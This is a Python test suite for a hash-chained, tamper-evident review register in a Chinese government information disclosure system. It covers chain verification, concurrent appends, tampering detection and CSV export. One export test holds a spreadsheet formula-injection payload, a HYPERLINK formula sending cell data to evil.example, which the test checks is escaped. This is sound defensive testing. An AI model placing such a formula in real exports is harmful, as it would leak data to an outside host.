"""审查登记备案: the review register is append-only, hash-chained per organization, and shows tampering."""

from __future__ import annotations

import asyncio
import csv
import io
import itertools
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from bson import ObjectId
from pymongo.asynchronous.client_session import AsyncClientSession
from pymongo.errors import DuplicateKeyError

from cms.errors import InvalidInput, PageSizeExceeded
from cms.review.register import (
    CSV_HEADER,
    GENESIS_HASH,
    RegisterEntry,
    RegisterService,
    StaleHead,
    canonical_json,
    record_hash,
)
from cms.services import Services
from storage.register import ConfidentialityFindings, RegisterRecord

T0 = datetime(2024, 3, 1, 23, 30, 0, tzinfo=UTC)


@pytest.fixture
def org_id() -> ObjectId:
    return ObjectId()  # the database is shared by the session: every test files under its own org


def entry(org_id: ObjectId, n: int = 1, **overrides: Any) -> RegisterEntry:
    fields: dict[str, Any] = {
        "org_id": org_id,
        "item_id": ObjectId(),
        "item_type": "CatalogEntry",
        "item_title": f"关于进一步加强政府信息公开工作的意见（{n}）",
        "item_version": 1,
        "action": "approve",
        "tier": "department",
        "from_state": "pending_department_review",
        "to_state": "pending_unit_approval",
        "actor_id": "u-100",
        "actor_name": "张三",
        "actor_roles": ("承办部门负责人",),
        "opinion": f"同意（{n}）",
        "findings": ConfidentialityFindings(
            state_secrets=False,
            commercial_secrets=False,
            personal_privacy=True,
            proposed_mode="proactive",
            proposed_scope="面向社会",
            proposed_time="即时",
        ),
    }
    fields.update(overrides)
    return RegisterEntry(**fields)


def ticking_clock(start: datetime = T0, step: timedelta = timedelta(minutes=1)) -> Callable[[], datetime]:
    counter = itertools.count()
    return lambda: start + step * next(counter)


async def raw(org_id: ObjectId, seq: int) -> dict[str, Any]:
    doc = await RegisterRecord.get_pymongo_collection().find_one({"org_id": org_id, "seq": seq})
    assert doc is not None
    return dict(doc)


async def test_append_builds_a_valid_chain(services: Services, org_id: ObjectId) -> None:
    register = RegisterService()
    records = [await register.append(entry(org_id, n)) for n in range(1, 6)]

    assert [r.seq for r in records] == [1, 2, 3, 4, 5]
    assert records[0].prev_hash == GENESIS_HASH
    for previous, record in itertools.pairwise(records):
        assert record.prev_hash == previous.hash
    for record in records:
        assert record.id is not None
        assert record.hash == record_hash(record)
        assert len(record.hash) == 64
    result = await register.verify(org_id)
    assert result.ok, result
    assert (result.checked, result.first_bad_seq, result.head_hash) == (5, None, records[-1].hash)


async def test_an_empty_register_verifies(services: Services, org_id: ObjectId) -> None:
    result = await RegisterService().verify(org_id)
    assert (result.ok, result.checked, result.head_hash) == (True, 0, None)


async def test_each_organization_has_its_own_chain(services: Services) -> None:
    register = RegisterService()
    a, b = ObjectId(), ObjectId()
    for n in range(3):
        await register.append(entry(a, n))
        await register.append(entry(b, n))
    await register.append(entry(a, 9))

    chain_a = list(reversed(await register.list(a)))
    chain_b = list(reversed(await register.list(b)))
    assert [r.seq for r in chain_a] == [1, 2, 3, 4]
    assert [r.seq for r in chain_b] == [1, 2, 3]
    assert chain_a[0].prev_hash == chain_b[0].prev_hash == GENESIS_HASH
    assert {r.org_id for r in chain_a} == {a}
    assert (await register.verify(a)).ok
    assert (await register.verify(b)).ok


async def test_concurrent_appends_in_one_process_give_a_contiguous_chain(
    services: Services, org_id: ObjectId
) -> None:
    register = RegisterService()
    records = await asyncio.gather(*(register.append(entry(org_id, n)) for n in range(30)))

    assert sorted(r.seq for r in records) == list(range(1, 31))
    result = await register.verify(org_id)
    assert (result.ok, result.checked) == (True, 30), result


async def test_concurrent_appenders_in_separate_processes_collide_and_retry(
    services: Services, org_id: ObjectId
) -> None:
    # One service per appender behaves like 30 processes: no shared lock, only the unique index.
    registers = [RegisterService() for _ in range(30)]
    records = await asyncio.gather(*(r.append(entry(org_id, n)) for n, r in enumerate(registers)))

    assert sorted(r.seq for r in records) == list(range(1, 31))
    result = await RegisterService().verify(org_id)
    assert (result.ok, result.checked) == (True, 30), result


async def test_a_stale_head_is_retried_outside_a_transaction(
    services: Services, org_id: ObjectId, monkeypatch: pytest.MonkeyPatch
) -> None:
    await RegisterService().append(entry(org_id, 1))
    stale = RegisterService()
    real_latest = stale._latest
    calls = 0

    async def first_read_is_stale(org: ObjectId, session: Any) -> Any:
        nonlocal calls
        calls += 1
        return None if calls == 1 else await real_latest(org, session)

    monkeypatch.setattr(stale, "_latest", first_read_is_stale)
    record = await stale.append(entry(org_id, 2))
    assert (record.seq, stale.collisions) == (2, 1)
    assert (await stale.verify(org_id)).ok


async def test_tampered_content_is_detected(services: Services, org_id: ObjectId) -> None:
    register = RegisterService()
    for n in range(5):
        await register.append(entry(org_id, n))
    await RegisterRecord.get_pymongo_collection().update_one(
        {"org_id": org_id, "seq": 3}, {"$set": {"opinion": "不同意"}}
    )
    result = await register.verify(org_id)
    assert (result.ok, result.first_bad_seq, result.checked) == (False, 3, 3)
    assert "哈希" in result.reason


async def test_a_deleted_record_is_detected_as_a_gap(services: Services, org_id: ObjectId) -> None:
    register = RegisterService()
    for n in range(5):
        await register.append(entry(org_id, n))
    await RegisterRecord.get_pymongo_collection().delete_one({"org_id": org_id, "seq": 3})
    result = await register.verify(org_id)
    assert (result.ok, result.first_bad_seq) == (False, 3)
    assert "缺少序号 3" in result.reason


async def test_a_rehashed_record_still_breaks_the_next_link(services: Services, org_id: ObjectId) -> None:
    register = RegisterService()
    for n in range(5):
        await register.append(entry(org_id, n))
    collection = RegisterRecord.get_pymongo_collection()
    doc = await raw(org_id, 3)
    doc["opinion"] = "不同意"
    doc["hash"] = record_hash(doc)  # the attacker recomputes the tampered record's own hash
    await collection.replace_one({"_id": doc["_id"]}, doc)

    result = await register.verify(org_id)
    assert (result.ok, result.first_bad_seq) == (False, 4)
    assert "前一记录哈希" in result.reason


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        pytest.param({"$set": {"note": "后加的字段"}}, "哈希", id="added-field"),
        pytest.param({"$unset": {"findings": ""}}, "缺少字段", id="removed-field"),
        pytest.param({"$set": {"item_version": "1"}}, "类型", id="retyped-number"),
    ],
)
async def test_other_tampering_is_detected(
    services: Services, org_id: ObjectId, change: dict[str, Any], reason: str
) -> None:
    register = RegisterService()
    for n in range(3):
        await register.append(entry(org_id, n))
    await RegisterRecord.get_pymongo_collection().update_one({"org_id": org_id, "seq": 2}, change)
    result = await register.verify(org_id)
    assert (result.ok, result.first_bad_seq) == (False, 2)
    assert reason in result.reason


async def test_retyping_an_id_to_its_hex_string_is_detected(services: Services, org_id: ObjectId) -> None:
    # The canonical form writes an ObjectId as hex, so only the type check can see this one.
    register = RegisterService()
    first = await register.append(entry(org_id, 1))
    await RegisterRecord.get_pymongo_collection().update_one(
        {"_id": first.id}, {"$set": {"item_id": str(first.item_id)}}
    )
    result = await register.verify(org_id)
    assert (result.ok, result.first_bad_seq) == (False, 1)
    assert "item_id" in result.reason


async def test_the_hash_survives_the_database_round_trip(services: Services, org_id: ObjectId) -> None:
    def clock() -> datetime:
        return datetime(2024, 5, 6, 7, 8, 9, 123456, tzinfo=UTC)  # microseconds the database drops

    details = {
        "at": datetime(2024, 1, 2, 3, 4, 5, 999999, tzinfo=UTC),
        "ref": ObjectId(),
        "tags": ("甲", "乙"),
        "nested": {"n": 1, "x": 1.5, "none": None, "flag": True},
    }
    record = await RegisterService(clock=clock).append(entry(org_id, details=details))
    assert record.at == datetime(2024, 5, 6, 7, 8, 9, 123000, tzinfo=UTC)

    back = await RegisterRecord.get(record.id)
    assert back is not None
    assert back.at == record.at
    assert record_hash(back) == record.hash
    assert record_hash(await raw(org_id, 1)) == record.hash
    assert back.details["tags"] == ["甲", "乙"]


def test_the_canonical_form_is_documented_json() -> None:
    text = canonical_json(
        {
            "b": datetime(2024, 1, 2, 3, 4, 5, 678999, tzinfo=UTC),
            "a": ObjectId("0123456789abcdef01234567"),
            "c": None,
            "d": "中文",
            "e": ConfidentialityFindings(
                state_secrets=True, commercial_secrets=False, personal_privacy=False, proposed_mode="x"
            ),
        }
    )
    assert text.startswith(
        '{"a":"0123456789abcdef01234567","b":"2024-01-02T03:04:05.678Z","c":null,"d":"中文"'
    )
    assert '"e":{"commercial_secrets":false,' in text


async def test_unsupported_details_are_refused(services: Services, org_id: ObjectId) -> None:
    with pytest.raises(InvalidInput):
        await RegisterService().append(entry(org_id, details={"when": {1, 2}}))
    with pytest.raises(InvalidInput):
        await RegisterService().append(entry(org_id, details={"x": float("nan")}))


async def test_time_never_runs_backwards_along_a_chain(services: Services, org_id: ObjectId) -> None:
    times = iter([T0, T0 - timedelta(hours=1)])  # a server whose clock was set back
    register = RegisterService(clock=lambda: next(times))
    first = await register.append(entry(org_id, 1))
    second = await register.append(entry(org_id, 2))
    assert second.at == first.at


async def test_history_lists_an_items_records_oldest_first(services: Services, org_id: ObjectId) -> None:
    register = RegisterService(clock=ticking_clock())
    item, other = ObjectId(), ObjectId()
    for n, target in enumerate([item, other, item, item, other]):
        await register.append(entry(org_id, n, item_id=target, item_version=n))
    history = await register.history(item)
    assert [r.item_version for r in history] == [0, 2, 3]
    assert [r.seq for r in history] == [1, 3, 4]


async def test_list_is_newest_first_and_keyset_paged(services: Services, org_id: ObjectId) -> None:
    register = RegisterService(clock=ticking_clock())
    for n in range(10):
        await register.append(entry(org_id, n))

    pages, before = [], None
    while page := await register.list(org_id, limit=4, before_seq=before):
        pages.append([r.seq for r in page])
        before = page[-1].seq
    assert pages == [[10, 9, 8, 7], [6, 5, 4, 3], [2, 1]]

    assert [r.seq for r in await register.list(org_id, before_seq=10**9, limit=2)] == [10, 9]
    assert await register.list(ObjectId()) == []
    with pytest.raises(PageSizeExceeded):
        await register.list(org_id, limit=0)


async def test_list_filters_by_time(services: Services, org_id: ObjectId) -> None:
    register = RegisterService(clock=ticking_clock())  # record n is filed at T0 + (n - 1) minutes
    for n in range(10):
        await register.append(entry(org_id, n))
    since, until = T0 + timedelta(minutes=3), T0 + timedelta(minutes=8)

    assert [r.seq for r in await register.list(org_id, since=since, until=until)] == [8, 7, 6, 5, 4]
    assert [r.seq for r in await register.list(org_id, since=since, until=until, limit=2)] == [8, 7]
    assert [r.seq for r in await register.list(org_id, since=since, until=until, before_seq=7)] == [6, 5, 4]
    assert [r.seq for r in await register.list(org_id, since=T0 + timedelta(minutes=8))] == [10, 9]
    assert [r.seq for r in await register.list(org_id, until=T0 + timedelta(minutes=2))] == [2, 1]


async def test_list_stays_exact_over_a_gap(services: Services, org_id: ObjectId) -> None:
    register = RegisterService()
    for n in range(6):
        await register.append(entry(org_id, n))
    await RegisterRecord.get_pymongo_collection().delete_one({"org_id": org_id, "seq": 5})
    assert [r.seq for r in await register.list(org_id, limit=3)] == [6, 4, 3]


def read_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


async def test_export_csv_is_for_excel_on_chinese_windows(services: Services, org_id: ObjectId) -> None:
    register = RegisterService(clock=ticking_clock(step=timedelta(hours=1)))
    first = await register.append(entry(org_id, 1))
    await register.append(
        entry(
            org_id,
            2,
            opinion='=HYPERLINK("http://evil.example/?x="&A1,"点击")',
            actor_name="@李四",
            item_title="-1+2",
            actor_roles=("承办人", "单位负责人"),
            findings=ConfidentialityFindings(
                state_secrets=True,
                commercial_secrets=False,
                personal_privacy=False,
                proposed_mode="not_disclosed",
                grounds="涉及国家秘密",
            ),
        )
    )
    await register.append(entry(org_id, 3, findings=None, action="submit", tier=None))

    text = await register.export_csv(org_id)
    rows = read_csv(text)
    assert tuple(rows[0]) == CSV_HEADER
    assert rows[0][:3] == ["序号", "时间", "事项类型"]
    assert len(rows) == 4
    one, two, three = (dict(zip(CSV_HEADER, row, strict=True)) for row in rows[1:])

    assert one["序号"] == "1"
    assert one["时间"] == "2024-03-02 07:30:00"  # 23:30 UTC is 07:30 the next morning in Beijing
    assert one["事项ID"] == str(first.item_id)
    assert one["原状态"] == "待审核"
    assert one["新状态"] == "待审发"
    assert one["操作"] == "通过"
    assert (one["涉及国家秘密"], one["涉及商业秘密"], one["涉及个人隐私"]) == ("否", "否", "是")
    assert one["拟公开方式"] == "主动公开"
    assert one["前一记录哈希"] == GENESIS_HASH
    assert one["本记录哈希"] == first.hash

    assert two["时间"] == "2024-03-02 08:30:00"
    assert two["意见"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    assert two["经办人"] == "'@李四"
    assert two["事项标题"] == "'-1+2"
    assert two["角色"] == "承办人、单位负责人"
    assert (two["涉及国家秘密"], two["拟公开方式"], two["不予公开理由"]) == ("是", "不予公开", "涉及国家秘密")
    assert two["前一记录哈希"] == one["本记录哈希"]

    assert (three["操作"], three["审核环节"], three["涉及国家秘密"], three["拟公开方式"]) == (
        "提交",
        "",
        "",
        "",
    )

    only_second = read_csv(
        await register.export_csv(org_id, since=T0 + timedelta(hours=1), until=T0 + timedelta(hours=2))
    )
    assert [row[0] for row in only_second[1:]] == ["2"]


async def test_append_joins_a_committed_transaction(services: Services, org_id: ObjectId) -> None:
    register = RegisterService()
    await register.append(entry(org_id, 1))
    async with services.client.start_session() as session, await session.start_transaction():
        record = await register.append(entry(org_id, 2), session=session)
        assert await RegisterRecord.find({"org_id": org_id}).count() == 1  # not visible before commit
    assert record.seq == 2
    assert await RegisterRecord.get(record.id) is not None
    assert (await register.verify(org_id)).checked == 2


async def test_an_aborted_transaction_leaves_no_record(services: Services, org_id: ObjectId) -> None:
    register = RegisterService()
    await register.append(entry(org_id, 1))

    async def file_then_fail() -> None:
        async with services.client.start_session() as session, await session.start_transaction():
            await register.append(entry(org_id, 2), session=session)
            raise RuntimeError("rolled back")

    with pytest.raises(RuntimeError, match="rolled back"):
        await file_then_fail()
    assert [r.seq for r in await register.list(org_id)] == [1]
    after = await register.append(entry(org_id, 3))
    assert after.seq == 2
    assert (await register.verify(org_id)).ok


async def test_a_conflict_inside_a_transaction_is_left_to_the_caller(
    services: Services, org_id: ObjectId, monkeypatch: pytest.MonkeyPatch
) -> None:
    register = RegisterService()
    await register.append(entry(org_id, 1))

    async def stale(org: ObjectId, session: Any) -> None:
        return None

    monkeypatch.setattr(register, "_latest", stale)
    with pytest.raises(DuplicateKeyError):
        async with services.client.start_session() as session, await session.start_transaction():
            await register.append(entry(org_id, 2), session=session)
    assert register.collisions == 0
    assert await RegisterRecord.find({"org_id": org_id}).count() == 1


async def test_a_transaction_that_lost_the_race_is_retried_by_with_transaction(
    services: Services, org_id: ObjectId
) -> None:
    # The transaction's snapshot predates another appender's commit of the same seq: the insert fails
    # with a WriteConflict labelled TransientTransactionError, which with_transaction retries.
    register, other = RegisterService(), RegisterService()
    await register.append(entry(org_id, 1))
    attempts = 0

    async def work(session: AsyncClientSession) -> RegisterRecord:
        nonlocal attempts
        attempts += 1
        await RegisterRecord.find({"org_id": org_id}, session=session).count()  # fixes the snapshot
        if attempts == 1:
            await other.append(entry(org_id, 2))  # commits seq 2 outside the snapshot
        return await register.append(entry(org_id, 3), session=session)

    async with services.client.start_session() as session:
        record = await session.with_transaction(work)
    assert (attempts, record.seq) == (2, 3)
    assert (await register.verify(org_id)).checked == 3


async def test_append_held_builds_on_the_committed_head_and_detects_a_stale_one(
    services: Services, org_id: ObjectId
) -> None:
    # The workflow's path: no read of the head while this process's cached head is current; another
    # process appending in between shows up as StaleHead (the unique index decides), the cache is
    # dropped, and the retried transaction reads the head.
    register, other = RegisterService(), RegisterService()
    await register.append(entry(org_id, 1))

    async def held(n: int) -> RegisterRecord:
        async with services.client.start_session() as session, register.lock(org_id):
            record: RegisterRecord = await session.with_transaction(
                lambda s: register.append_held(entry(org_id, n), s)
            )
            register.committed(record)
            return record

    assert (await held(2)).seq == 2
    await other.append(entry(org_id, 3))  # "another process": the cached head (seq 2) is now stale
    with pytest.raises(StaleHead):
        await held(4)
    assert register.collisions == 1
    assert (await held(4)).seq == 4
    result = await register.verify(org_id)
    assert (result.ok, result.checked) == (True, 4), result


async def test_the_workflow_retries_a_transaction_whose_head_went_stale(
    services: Services, org_id: ObjectId
) -> None:
    workflow = services.workflow
    other = RegisterService()
    await workflow.register.append(entry(org_id, 1))
    attempts = 0

    async def writes(session: AsyncClientSession) -> None:
        nonlocal attempts
        attempts += 1
        if attempts == 1:
            await other.append(entry(org_id, 2))  # another process files first

    record = await workflow._file(writes, entry(org_id, 3))
    assert (attempts, record.seq) == (2, 3)
    records = await asyncio.gather(
        *(workflow._file(writes, entry(org_id, n)) for n in range(4, 14))  # one process, concurrently
    )
    assert sorted(r.seq for r in records) == list(range(4, 14))
    result = await RegisterService().verify(org_id)
    assert (result.ok, result.checked) == (True, 13), result


# Findings exactly as registers stored them before 第十五条 grounds existed (no ``privacy_grounds``).
OLD_FINDINGS = {
    "state_secrets": False,
    "commercial_secrets": False,
    "personal_privacy": False,
    "proposed_mode": "proactive",
    "proposed_scope": "面向社会",
    "proposed_time": "即时",
    "grounds": "",
}


async def test_a_record_written_before_privacy_grounds_existed_still_verifies(
    services: Services, org_id: ObjectId
) -> None:
    # given a record stored in the old shape, hashed as it was then
    old: dict[str, Any] = {
        "org_id": org_id,
        "seq": 1,
        "item_id": ObjectId(),
        "item_type": "CatalogEntry",
        "item_title": "关于做好政务公开工作的通知",
        "item_version": 1,
        "action": "approve",
        "tier": "first_review",
        "from_state": "pending_first_review",
        "to_state": "pending_department_review",
        "actor_id": "u-1",
        "actor_name": "李四",
        "actor_roles": ["officer"],
        "at": T0,
        "opinion": "同意",
        "findings": OLD_FINDINGS,
        "details": {},
        "prev_hash": GENESIS_HASH,
    }
    old["hash"] = record_hash(old)
    await RegisterRecord.get_pymongo_collection().insert_one(dict(old))
    # when a record with 第十五条 grounds is appended after it
    grounds = ConfidentialityFindings.model_validate(
        {
            **OLD_FINDINGS,
            "personal_privacy": True,
            "privacy_grounds": "public_interest",
            "grounds": "公共利益",
        }
    )
    await RegisterService(clock=ticking_clock(T0 + timedelta(minutes=1))).append(
        entry(org_id, 2, findings=grounds)
    )
    # then the chain verifies, and the old record read as a model hashes as it did
    result = await RegisterService().verify(org_id)
    assert (result.ok, result.checked) == (True, 2)
    loaded = await RegisterRecord.find_one({"org_id": org_id, "seq": 1})
    assert loaded is not None
    assert record_hash(loaded) == old["hash"]
    assert (await raw(org_id, 2))["findings"]["privacy_grounds"] == "public_interest"


async def test_findings_without_privacy_grounds_are_stored_and_hashed_in_the_old_shape(
    services: Services, org_id: ObjectId
) -> None:
    record = await RegisterService().append(entry(org_id, 1))
    stored = await raw(org_id, 1)
    assert set(stored["findings"]) == set(OLD_FINDINGS)
    assert record.hash == stored["hash"] == record_hash(stored)
